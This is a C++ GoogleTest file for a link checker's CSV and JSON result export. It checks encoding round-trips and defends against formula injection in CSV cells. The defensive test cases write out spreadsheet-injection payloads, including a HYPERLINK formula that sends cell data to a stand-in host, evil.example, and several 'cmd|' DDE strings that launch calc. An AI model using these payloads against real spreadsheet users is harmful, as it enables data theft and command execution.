#include "report/ResultExport.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "support/TempDataFolder.h"

namespace tarnwick {
namespace {

std::vector<ExportRow> sampleRows() {
    ExportRow found;
    found.m_advertiser = "www.example.com";
    found.m_page = "http://caf\xE9.example/links?a=1,b=\"2\"";  // Windows-1252 as stored
    found.m_mail = "web@caf\xE9.example";
    found.m_notify = "Enabled";
    found.m_result = "Link Found";
    found.m_reason = "";
    PageEvidence& e = found.m_evidence;
    e.m_checked = true;
    e.m_httpStatus = 200;
    e.m_finalUrl = "https://caf\xC3\xA9.example/links";
    e.m_contentType = "text/html; charset=\"utf-8\"";
    e.m_bytes = 12345;
    e.m_elapsedMs = 87;
    e.m_anchorFound = true;
    e.m_href = "http://www.example.com/?x=1&y=2";
    e.m_rel = "nofollow sponsored";
    e.m_anchorText = "Caf\xC3\xA9 \"best\",\r\ndeal\\ \x01 \xE2\x82\xAC";
    e.m_metaRobots = "noindex, nofollow";
    e.m_xRobotsTag = "bad \xFF byte";  // not UTF-8: read as Windows-1252
    e.m_noindex = true;
    e.m_nofollow = true;
    e.m_robotsAll = RobotsVerdict::Allowed;
    e.m_robotsGooglebot = RobotsVerdict::Disallowed;
    e.m_hiddenBy = "<div hidden> around the link";
    e.m_hiddenByMarkup = true;
    e.m_outboundLinks = 7;
    e.m_directives[static_cast<size_t>(Crawler::Bingbot)].m_noindex = "X-Robots-Tag: bingbot: none";
    e.m_directives[static_cast<size_t>(Crawler::Bingbot)].m_nofollow =
        "X-Robots-Tag: bingbot: none";

    ExportRow failed;
    failed.m_advertiser = "www.example.com";
    failed.m_page = "http://down.example/";
    failed.m_mail = " ";
    failed.m_notify = "Disabled";
    failed.m_result = "Page cannot be displayed";
    failed.m_reason = "no connection";
    failed.m_evidence.m_checked = true;

    ExportRow unchecked;
    unchecked.m_advertiser = "";
    unchecked.m_page = "";
    return {found, failed, unchecked};
}

// What Python's csv and json modules read back: index -> key -> JSON value.
std::map<int, std::map<std::string, std::string>> readBack(const std::string& kind,
                                                           const std::string& path,
                                                           const std::string& folder) {
    const char* source = std::getenv("TARNWICK_SOURCE_DIR");
    const char* python = std::getenv("TARNWICK_TEST_PYTHON");
    EXPECT_NE(source, nullptr);
    const std::string out = folder + "/readback.txt";
    const std::string command = std::string(python != nullptr ? python : "/usr/bin/python3") +
                                " '" + std::string(source) + "/tests/report/read_export.py' " +
                                kind + " '" + path + "' > '" + out + "'";
    EXPECT_EQ(std::system(command.c_str()), 0) << kind << " did not parse";
    std::map<int, std::map<std::string, std::string>> records;
    std::istringstream lines(test::readBytes(out));
    std::string line;
    while (std::getline(lines, line)) {
        const size_t tab1 = line.find('\t');
        const size_t tab2 = line.find('\t', tab1 + 1);
        records[std::stoi(line.substr(0, tab1))][line.substr(tab1 + 1, tab2 - tab1 - 1)] =
            line.substr(tab2 + 1);
    }
    return records;
}

const std::vector<std::string> kRequiredKeys = {
    "advertiser", "page",        "result",  "reason",     "http_status", "final_url",
    "rel",        "anchor_text", "noindex", "robots_txt", "elapsed_ms"};

TEST(ResultExportTest, CsvAndJsonReadBackByRealReaders) {
    test::TempDataFolder folder;
    const std::vector<ExportRow> rows = sampleRows();
    const std::string csvPath = folder.root() + "/results.csv";
    const std::string jsonPath = folder.root() + "/results.JSON";
    ASSERT_EQ(exportKindFor(csvPath), ExportKind::Csv);
    ASSERT_EQ(exportKindFor(jsonPath), ExportKind::Json);
    writeExport(csvPath, rows, ExportKind::Csv);
    writeExport(jsonPath, rows, ExportKind::Json);
    const std::string jsonlPath = folder.root() + "/results.jsonl";
    std::string lines;
    for (const ExportRow& row : rows) {
        lines += exportJsonObject(row) + "\n";
    }
    test::writeBytes(jsonlPath, lines);

    const auto csv = readBack("csv", csvPath, folder.root());
    const auto json = readBack("json", jsonPath, folder.root());
    const auto jsonl = readBack("jsonl", jsonlPath, folder.root());
    ASSERT_EQ(csv.size(), 3u);
    ASSERT_EQ(json.size(), 3u);
    EXPECT_EQ(jsonl, json);
    for (const auto& [index, record] : json) {
        for (const std::string& key : kRequiredKeys) {
            EXPECT_TRUE(record.count(key)) << key;
            EXPECT_TRUE(csv.at(index).count(key)) << key;
        }
    }

    const auto& j = json.at(0);
    EXPECT_EQ(j.at("page"), R"("http://caf\u00e9.example/links?a=1,b=\"2\"")");
    EXPECT_EQ(j.at("mail"), R"("web@caf\u00e9.example")");
    EXPECT_EQ(j.at("http_status"), "200");
    EXPECT_EQ(j.at("final_url"), R"("https://caf\u00e9.example/links")");
    EXPECT_EQ(j.at("rel"), R"(["nofollow", "sponsored"])");
    EXPECT_EQ(j.at("anchor_text"), R"("Caf\u00e9 \"best\",\r\ndeal\\ \u0001 \u20ac")");
    EXPECT_EQ(j.at("x_robots_tag"), R"("bad \u00ff byte")");
    EXPECT_EQ(j.at("noindex"), "true");
    EXPECT_EQ(j.at("robots_txt"), R"("disallowed")");
    EXPECT_EQ(j.at("robots_txt_all"), R"("allowed")");
    EXPECT_EQ(j.at("elapsed_ms"), "87");
    EXPECT_EQ(j.at("bytes"), "12345");
    EXPECT_EQ(j.at("verdict"), R"("hidden by markup")");
    EXPECT_EQ(j.at("findings"),
              R"(["hidden by markup", "robots.txt blocks", "noindex for Bingbot", )"
              R"("sponsored", "nofollow", "nofollow for Bingbot"])");
    EXPECT_EQ(j.at("hidden_by"), R"("<div hidden> around the link")");
    EXPECT_EQ(j.at("noindex_for"), R"(["bingbot"])");
    EXPECT_EQ(j.at("outbound_links"), "7");
    EXPECT_EQ(j.at("link_position"), "null");
    EXPECT_EQ(j.at("link_farm"), "false");

    const auto& c = csv.at(0);
    EXPECT_EQ(c.at("page"), j.at("page"));
    EXPECT_EQ(c.at("anchor_text"), j.at("anchor_text"));
    EXPECT_EQ(c.at("rel"), R"("nofollow sponsored")");
    EXPECT_EQ(c.at("http_status"), R"("200")");
    EXPECT_EQ(c.at("noindex"), R"("true")");
    EXPECT_EQ(c.at("findings"), R"("hidden by markup; robots.txt blocks; noindex for Bingbot; )"
                                R"(sponsored; nofollow; nofollow for Bingbot")");
    EXPECT_EQ(c.at("nofollow_for"), R"("bingbot")");

    const auto& f = json.at(1);
    EXPECT_EQ(f.at("http_status"), "null");
    EXPECT_EQ(f.at("reason"), R"("no connection")");
    EXPECT_EQ(f.at("rel"), "[]");
    EXPECT_EQ(f.at("robots_txt"), R"("unknown")");
    EXPECT_EQ(f.at("verdict"), R"("no answer")");
    EXPECT_EQ(csv.at(1).at("http_status"), R"("")");
    EXPECT_EQ(json.at(2).at("verdict"), R"("")");

    // RFC 4180 records end in CR LF; the one line break inside a field is
    // the quoted anchor text's.
    const std::string bytes = test::readBytes(csvPath);
    EXPECT_EQ(bytes.substr(0, 17), "advertiser,page,m");
    EXPECT_EQ(bytes.substr(bytes.size() - 2), "\r\n");
}

// The first character of a JSON string as read_export.py prints it (ASCII
// escapes), after the blanks a spreadsheet may skip: "=" or "\\t" or
// "\\uff1d"; "" for an empty string or one of blanks only.
std::string firstAfterBlanks(const std::string& json, bool& leadingTabOrCr) {
    leadingTabOrCr = json.rfind("\"\\t", 0) == 0 || json.rfind("\"\\r", 0) == 0;
    size_t at = 1;
    for (;;) {
        if (json.compare(at, 1, " ") == 0) {
            at += 1;
        } else if (json.compare(at, 2, "\\t") == 0 || json.compare(at, 2, "\\r") == 0 ||
                   json.compare(at, 2, "\\n") == 0) {
            at += 2;
        } else {
            break;
        }
    }
    if (at >= json.size() - 1) {
        return {};
    }
    return json.substr(at, json[at] == '\\' ? (json[at + 1] == 'u' ? 6 : 2) : 1);
}

bool isFormulaStart(const std::string& json) {
    bool tabOrCr = false;
    const std::string first = firstAfterBlanks(json, tabOrCr);
    for (const char* formula : {"=", "+", "-", "@", "\\uff1d", "\\uff0b", "\\uff0d", "\\uff20"}) {
        if (first == formula) {
            return true;
        }
    }
    return tabOrCr;
}

// Texts from a hostile partner page (anchor text, link, headers, meta robots)
// and from the profile (page, mail address) that a spreadsheet would run as a
// formula: each CSV cell gets a leading apostrophe, JSON keeps the value.
TEST(ResultExportTest, NoCsvCellStartsAFormula) {
    struct Case {
        const char* text;
        bool formula;
    };
    const std::vector<Case> cases = {
        {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", true},
        {"+cmd|' /C calc'!A0", true},
        {"-2+3+cmd|' /C calc'!A0", true},
        {"@SUM(1+1)*cmd|' /C calc'!A0", true},
        {"\t=1+1", true},
        {"\r=1+1", true},
        {"\tplain", true},
        {"  =1+1", true},
        {" \n@SUM(1)", true},
        {"\uFF1D1+1", true},  // a fullwidth equals sign
        {"\uFF20SUM(1)", true},
        {"a=1+1", false},
        {"'=1+1", false},
        {"http://www.example.com/", false},
        {"", false},
        {"   ", false},
    };
    test::TempDataFolder folder;
    std::vector<ExportRow> rows;
    for (const Case& c : cases) {
        ExportRow row;
        // The stored 8-bit texts are Windows-1252; the fullwidth signs exist
        // only in the fetched (UTF-8) ones.
        const bool ascii = std::string(c.text).find('\xEF') == std::string::npos;
        row.m_advertiser = ascii ? c.text : "";
        row.m_page = ascii ? c.text : "";
        row.m_mail = ascii ? c.text : "";
        row.m_reason = ascii ? c.text : "";
        row.m_result = "Link Found";
        PageEvidence& e = row.m_evidence;
        e.m_checked = true;
        e.m_httpStatus = 200;
        e.m_finalUrl = c.text;
        e.m_contentType = c.text;
        e.m_anchorFound = true;
        e.m_href = c.text;
        e.m_anchorText = c.text;
        e.m_metaRobots = c.text;
        e.m_xRobotsTag = c.text;
        e.m_hiddenBy = c.text;  // a finding's evidence too
        e.m_canonical = c.text;
        e.m_canonicalSource = c.text;
        e.m_robotsNotes = c.text;
        rows.push_back(row);
    }
    const std::string csvPath = folder.root() + "/hostile.csv";
    const std::string jsonPath = folder.root() + "/hostile.json";
    writeExport(csvPath, rows, ExportKind::Csv);
    writeExport(jsonPath, rows, ExportKind::Json);
    const auto csv = readBack("csv", csvPath, folder.root());
    const auto json = readBack("json", jsonPath, folder.root());
    ASSERT_EQ(csv.size(), cases.size());
    ASSERT_EQ(json.size(), cases.size());
    for (size_t i = 0; i < cases.size(); ++i) {
        SCOPED_TRACE(cases[i].text);
        const auto& c = csv.at(static_cast<int>(i));
        const auto& j = json.at(static_cast<int>(i));
        for (const auto& [key, value] : c) {
            SCOPED_TRACE(testing::Message() << key << " = " << value);
            EXPECT_FALSE(isFormulaStart(value));
            const std::string& original = j.at(key);
            if (original.empty() || original[0] != '"') {
                continue;  // a number, flag or list in JSON
            }
            // The CSV cell is the JSON value, with the apostrophe when needed.
            EXPECT_EQ(value, isFormulaStart(original) ? "\"'" + original.substr(1) : original);
        }
        EXPECT_EQ(isFormulaStart(j.at("anchor_text")), cases[i].formula);
    }
    EXPECT_EQ(json.at(0).at("anchor_text"),
              R"x("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")")x");
    EXPECT_EQ(csv.at(0).at("anchor_text"),
              R"x("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")")x");
}

TEST(ResultExportTest, AnExportThatCannotBeWrittenThrows) {
    EXPECT_ANY_THROW(writeExport("/nonexistent-folder/x.csv", sampleRows(), ExportKind::Csv));
}

}  // namespace
}  // namespace tarnwick
